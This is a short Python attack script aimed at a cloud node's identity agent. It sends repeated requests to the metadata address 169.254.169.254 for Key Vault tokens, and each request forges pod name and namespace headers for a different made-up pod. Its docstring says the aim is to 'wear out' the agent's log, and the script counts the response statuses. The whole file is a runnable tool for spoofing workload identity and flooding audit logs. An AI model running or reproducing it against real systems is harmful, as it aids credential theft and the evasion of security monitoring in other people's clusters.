"""Asks the agent something refused in ever new words, to wear its log out.

    mute.py REQUESTS

Each request for `/host/token` names another pod. Prints how often each status came.
"""

from __future__ import annotations

import http.client
import json
import sys
from collections import Counter

PATH = (
    "/host/token/?resource=https://vault.azure.net&client_id=00000000-0000-0000-0000-000000000000"
)


def wear_out(requests: int) -> Counter[int]:
    """Return the statuses that came."""
    connection = http.client.HTTPConnection("169.254.169.254")
    seen: Counter[int] = Counter()
    for number in range(requests):
        named = {"Podname": f"pod-{number}", "Podns": f"space-{number}"}
        connection.request("GET", PATH, headers={"Metadata": "true", **named})
        answer = connection.getresponse()
        answer.read()
        seen[answer.status] += 1
    return seen


if __name__ == "__main__":
    print(json.dumps(wear_out(int(sys.argv[1]))))
